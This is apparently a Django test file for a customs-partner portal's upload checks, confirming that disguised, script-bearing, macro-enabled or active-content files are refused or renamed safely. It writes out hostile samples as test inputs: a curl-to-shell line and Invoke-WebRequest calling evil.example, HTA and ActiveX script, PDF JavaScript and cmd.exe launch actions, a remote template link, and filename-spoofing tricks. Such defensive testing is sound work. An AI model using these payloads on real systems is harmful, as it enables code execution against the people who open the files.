"""The uploads attacks of the security review (issue 13), each one refused or made harmless:
files are judged by their content and what it holds, stored and sent under names the portal
makes, and sent so that a browser runs nothing in them."""

import io
import zipfile
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from partners.models import CooperationEvent, EvidenceFile, ReportAttachment
from partners.services import events as services
from partners.services.uploads import detect_kind, validate_upload
from portal.text import file_display_name
from tests import upload_files as files
from tests.partners.report_data import report_of

pytestmark = pytest.mark.django_db

NOT_ALLOWED = "{} is not a PDF, JPEG, PNG, XLSX or DOCX file (checked by its content)."
PDF_ACTIVE = (
    "{} is a PDF with active content (JavaScript, a launch action, embedded files, rich media "
    "or an XFA form), which the portal does not accept. Print it to a new PDF and send that."
)
OFFICE_ACTIVE = (
    "{} contains macros, ActiveX controls, embedded objects or links that load other files, "
    "which the portal does not accept. Save it as a plain .xlsx or .docx workbook or document "
    "and send that."
)


def _refusal(name: str, content: bytes) -> str:
    with pytest.raises(ValidationError) as refused:
        validate_upload(SimpleUploadedFile(name, content))
    [message] = refused.value.messages
    return message


def _attach(event, officer, name: str, content: bytes) -> EvidenceFile:
    return services.evidence_attach(
        event=event, user=officer, upload=SimpleUploadedFile(name, content)
    )


def _download(client, user, evidence):
    client.force_login(user)
    response = client.get(reverse("partners:evidence-download", args=[evidence.pk]))
    assert response.status_code == 200
    return response


# A file's name says nothing: its content decides its type, its stored and its sent name


@pytest.mark.parametrize("name", ["shipping-docs.hta", "manifest.html", "manifest.pdf.exe"])
def test_a_pdf_named_as_a_program_or_a_page_is_stored_and_sent_as_a_pdf(
    client, officer, verified_event, settings, name
):
    evidence = _attach(verified_event, officer, name, files.pdf())

    assert evidence.kind == EvidenceFile.Kind.PDF
    assert evidence.file.name == f"evidence/{verified_event.pk}/{evidence.token}.pdf"
    assert (Path(settings.MEDIA_ROOT) / evidence.file.name).read_bytes() == files.pdf()
    response = _download(client, officer, evidence)
    stem = {"shipping-docs.hta": "shipping-docs", "manifest.html": "manifest"}.get(
        name, "manifestpdf"
    )
    assert response["Content-Disposition"] == (
        f'attachment; filename="evidence-{evidence.pk}-{stem}.pdf"'
    )
    assert response["Content-Type"] == "application/pdf"
    # Still shown as it was called, so that the officer knows which file it is.
    assert evidence.original_name == name


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-1.4\n<html><body><script>new ActiveXObject('WScript.Shell')</script></body></html>",
        b"%PDF-1.4\n<HTA:APPLICATION ID=x><script language=VBScript>Run</script>",
        b"%PDF-1.4\n%%EOF\n",  # a header and nothing of a PDF
    ],
)
def test_a_pdf_header_on_something_else_is_refused(content):
    message = _refusal("shipping-docs.hta", content)
    assert message in (
        NOT_ALLOWED.format("shipping-docs.hta"),
        "shipping-docs.hta is damaged or not really a PDF.",
    )


def test_a_png_named_setup_exe_is_sent_as_a_png(client, officer, verified_event):
    evidence = _attach(verified_event, officer, "setup.exe", files.png())

    response = _download(client, officer, evidence)

    assert evidence.file.name.endswith(f"/{evidence.token}.png")
    assert response["Content-Disposition"] == (
        f'attachment; filename="evidence-{evidence.pk}-setup.png"'
    )
    assert response["Content-Type"] == "image/png"


def test_a_png_header_on_a_program_is_refused():
    content = b"\x89PNG\r\n\x1a\n" + b"MZ\x90\x00" + b"\x00" * 60 + b"PE\x00\x00"
    assert _refusal("setup.exe", content) == "setup.exe is damaged or not really an image."


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("diagram.png", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        ("diagram.svg", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>'),
        ("manifest.pdf", b"<!DOCTYPE html><html><script>alert(1)</script></html>"),
        ("manifest.html", b"<html><body>Shipping documents</body></html>"),
        ("statement.docx", b'<?xml version="1.0"?><w:document/>'),
        ("photo.jpg", b"#!/bin/sh\ncurl http://evil.example | sh\n"),
        ("run.ps1", b"Invoke-WebRequest http://evil.example\n"),
        ("photo.jpg", b"\xff\xd8\xff<script>alert(1)</script>"),
    ],
)
def test_markup_and_scripts_are_refused_whatever_their_name(name, content):
    assert _refusal(name, content) in (
        NOT_ALLOWED.format(name),
        f"{name} is damaged or not really an image.",
    )
    assert detect_kind(SimpleUploadedFile(name, content)) is None


# Long and deceptive names


def test_a_250_character_name_keeps_its_start_and_its_extension(client, officer, verified_event):
    name = "Shipping documents of container MSKU1234567 " + "x" * 202 + ".pdf"
    assert len(name) == 250

    evidence = _attach(verified_event, officer, name, files.pdf())

    assert len(evidence.original_name) == 200
    assert evidence.original_name.startswith("Shipping documents of container MSKU1234567 xxx")
    assert evidence.original_name.endswith("xxx….pdf")
    download = _download(client, officer, evidence)["Content-Disposition"]
    assert download.startswith(f'attachment; filename="evidence-{evidence.pk}-shipping-documents')
    assert download.endswith('.pdf"')


def test_a_250_character_name_of_a_png_called_exe_is_sent_as_png(client, officer, verified_event):
    evidence = _attach(verified_event, officer, "y" * 246 + ".exe", files.png())

    assert evidence.original_name == "y" * 195 + "….exe"  # shown only
    download = _download(client, officer, evidence)["Content-Disposition"]
    assert download == f'attachment; filename="evidence-{evidence.pk}-{"y" * 60}.png"'


def test_names_lose_folders_line_breaks_and_direction_overrides():
    assert file_display_name("..\\..\\windows\\invoice\u202egpj.exe") == "invoicegpj.exe"
    assert file_display_name("manifest\r\nX-Injected: 1.pdf") == "manifest X-Injected: 1.pdf"
    assert file_display_name("/etc/passwd") == "passwd"
    assert file_display_name("...") == "file"
    assert file_display_name("報關單 2024.pdf") == "報關單 2024.pdf"


def test_a_chinese_name_is_kept_in_the_download(client, officer, verified_event):
    evidence = _attach(verified_event, officer, "報關單.pdf", files.pdf())
    download = _download(client, officer, evidence)["Content-Disposition"]
    assert download == (
        f"attachment; filename*=utf-8''evidence-{evidence.pk}-%E5%A0%B1%E9%97%9C%E5%96%AE.pdf"
    )


# PDFs that run something or carry something


@pytest.mark.parametrize(
    ("catalog", "objects"),
    [
        files.OPEN_ACTION_JAVASCRIPT,
        # The same name written with an escape: /J#61vaScript is /JavaScript.
        (b"/OpenAction 4 0 R", (b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>",)),
        (b"/OpenAction 4 0 R", (b"<< /S /Launch /F (cmd.exe) >>",)),
        (b"/AA << /WC 4 0 R >>", (b"<< /S /JavaScript /JS 5 0 R >>", b"(app.alert(1))")),
        (b"/Names << /EmbeddedFiles 4 0 R >>", (b"<< /Names [(a.exe) 5 0 R] >>", b"<< >>")),
        (b"/AcroForm << /Fields [] /XFA 4 0 R >>", (b"(<xdp:xdp/>)",)),
        (b"", (b"<< /Type /Annot /Subtype /RichMedia >>",)),
    ],
)
def test_a_pdf_with_active_content_is_refused(catalog, objects):
    if isinstance(objects, bytes):
        objects = (objects,)
    assert _refusal("manifest.pdf", files.pdf_with(catalog, *objects)) == PDF_ACTIVE.format(
        "manifest.pdf"
    )


def test_javascript_inside_a_compressed_object_stream_is_found():
    content = files.pdf_in_object_streams(*files.OPEN_ACTION_JAVASCRIPT)
    # Nothing to see in the bytes: the objects are compressed.
    assert b"JavaScript" not in content and b"/ObjStm" in content

    assert _refusal("manifest.pdf", content) == PDF_ACTIVE.format("manifest.pdf")


def test_javascript_in_an_object_outside_the_cross_reference_table_is_found():
    """An object no table points at, which a reader rebuilding a damaged file would read."""
    content = files.pdf() + b"9 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"
    assert _refusal("manifest.pdf", content) == PDF_ACTIVE.format("manifest.pdf")


def test_the_words_of_a_page_are_not_mistaken_for_actions():
    """A page's content stream may hold anything, /JS included: only objects count."""
    page = b"BT /JS 12 Tf (/JavaScript /Launch) Tj ET"
    content = files.pdf_with(b"", b"<< /Length %d >>\nstream\n%s\nendstream" % (len(page), page))
    assert validate_upload(SimpleUploadedFile("manifest.pdf", content)) == "pdf"


def test_a_pdf_that_opens_on_a_page_or_links_to_a_site_is_accepted():
    content = files.pdf_with(
        b"/OpenAction [3 0 R /Fit]",
        b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://www.customs.gov.hk) >> >>",
    )
    assert validate_upload(SimpleUploadedFile("manifest.pdf", content)) == "pdf"


def test_a_password_protected_pdf_is_refused():
    import pikepdf

    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(files.pdf())) as document:
        document.save(out, encryption=pikepdf.Encryption(user="secret", owner="secret"))

    assert _refusal("scan.pdf", out.getvalue()) == (
        "scan.pdf is protected by a password; send a copy without the password."
    )


# Office files judged by what their package declares and holds


@pytest.mark.parametrize(
    "content",
    [
        # A .docm: the main part's type says macros are enabled.
        files.docx_declaring(
            ("/word/vbaProject.bin", files.VBA_PROJECT),
            main=files.DOCM_MAIN,
            word__vbaProject_bin=files.OLE_STORAGE,
        ),
        # The VBA project renamed, its content type declared.
        files.docx_declaring(
            ("/word/settings-data.xml", files.VBA_PROJECT),
            word__settings_data_xml=files.OLE_STORAGE,
        ),
        # The VBA project renamed and given a declared type of nothing special: an OLE storage.
        files.docx_declaring(
            ("/word/media/image9.png", "image/png"), word__media__image9_png=files.OLE_STORAGE
        ),
        # Excel 4 macro sheets, ActiveX controls, OLE objects by their content types.
        files.docx_declaring(("/word/x.xml", "application/vnd.ms-excel.macrosheet+xml")),
        files.docx_declaring(("/word/a.xml", "application/vnd.ms-office.activeX+xml")),
        files.docx_declaring(
            ("/word/o.bin", "application/vnd.openxmlformats-officedocument.oleObject")
        ),
        # Relationships that load code or another file.
        files.docx_with_relationship("attachedTemplate", "https://evil.example/t.dotm", True),
        files.docx_with_relationship("oleObject", "embeddings/oleObject1.bin"),
        files.docx_with_relationship("image", "file://evil.example/share/pixel.png", True),
        # The part that gave it away before: its name.
        files.with_macros(files.docx()),
    ],
)
def test_an_office_file_with_macros_or_objects_is_refused(content):
    assert _refusal("statement.docx", content) == OFFICE_ACTIVE.format("statement.docx")


def test_an_office_file_with_a_link_to_a_site_is_accepted():
    content = files.docx_with_relationship("hyperlink", "https://www.customs.gov.hk", True)
    assert validate_upload(SimpleUploadedFile("statement.docx", content)) == "docx"


def test_an_office_package_that_declares_entities_is_refused():
    parts = files.parts_of(files.docx())
    types = parts["[Content_Types].xml"].decode()
    parts["[Content_Types].xml"] = types.replace(
        "<Types", '<!DOCTYPE t [<!ENTITY a "aaaa">]><Types', 1
    )
    assert _refusal("statement.docx", files.package(parts)) == NOT_ALLOWED.format("statement.docx")


def test_a_package_whose_declared_main_part_is_missing_is_refused():
    parts = files.parts_of(files.docx())
    del parts["word/document.xml"]
    assert _refusal("a.docx", files.package(parts)) == NOT_ALLOWED.format("a.docx")


def test_an_xlsm_workbook_is_refused():
    parts = files.parts_of(files.xlsx())
    parts["[Content_Types].xml"] = (
        parts["[Content_Types].xml"]
        .decode()
        .replace(
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        )
    )
    assert _refusal("manifest.xlsx", files.package(parts)) == OFFICE_ACTIVE.format("manifest.xlsx")
    with zipfile.ZipFile(io.BytesIO(files.xlsx())) as workbook:
        assert "xl/workbook.xml" in workbook.namelist()


# Through the pages: refused on the form, nothing kept


def test_the_event_form_refuses_a_pdf_with_javascript(client, officer, enterprise, settings):
    client.force_login(officer)
    upload = SimpleUploadedFile("manifest.pdf", files.pdf_with(*files.OPEN_ACTION_JAVASCRIPT))

    response = client.post(
        reverse("partners:event-create"),
        {
            "enterprise": enterprise.pk,
            "event_type": CooperationEvent.EventType.TRAINING,
            "occurred_on": "2024-05-17",
            "significance": CooperationEvent.Significance.ROUTINE,
            "title": "Training",
            "evidence": [upload],
        },
    )

    assert response.context["form"].errors == {"evidence": [PDF_ACTIVE.format("manifest.pdf")]}
    assert not CooperationEvent.objects.exists()
    assert not any(Path(settings.MEDIA_ROOT).rglob("*.*"))


def test_a_report_attachment_is_checked_stored_and_sent_the_same_way(
    client, partner_user, officer, settings
):
    with pytest.raises(ValidationError):
        report_of(
            partner_user,
            attachments=[SimpleUploadedFile("m.docx", files.with_macros(files.docx()))],
        )
    report = report_of(partner_user, attachments=[SimpleUploadedFile("invoice.hta", files.pdf())])
    attachment = ReportAttachment.objects.get(report=report)
    assert attachment.file.name == f"reports/{report.pk}/{attachment.token}.pdf"

    for user in (partner_user, officer):
        client.force_login(user)
        response = client.get(reverse("partners:report-attachment", args=[attachment.pk]))
        assert response["Content-Disposition"] == (
            f'attachment; filename="attachment-{attachment.pk}-invoice.pdf"'
        )
        assert response["Content-Type"] == "application/pdf"
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"


def test_a_file_stored_before_names_had_an_extension_is_sent_under_a_made_name(
    client, officer, verified_event, settings
):
    """Files kept as evidence/<event>/<token> stay there; their download is named alike."""
    evidence = _attach(verified_event, officer, "old scan.PDF", files.pdf())
    old_path = f"evidence/{verified_event.pk}/{evidence.token}"
    (Path(settings.MEDIA_ROOT) / evidence.file.name).rename(Path(settings.MEDIA_ROOT) / old_path)
    EvidenceFile.objects.filter(pk=evidence.pk).update(file=old_path)
    evidence.refresh_from_db()

    response = _download(client, officer, evidence)

    assert response["Content-Disposition"] == (
        f'attachment; filename="evidence-{evidence.pk}-old-scan.pdf"'
    )
    assert b"".join(response.streaming_content) == files.pdf()
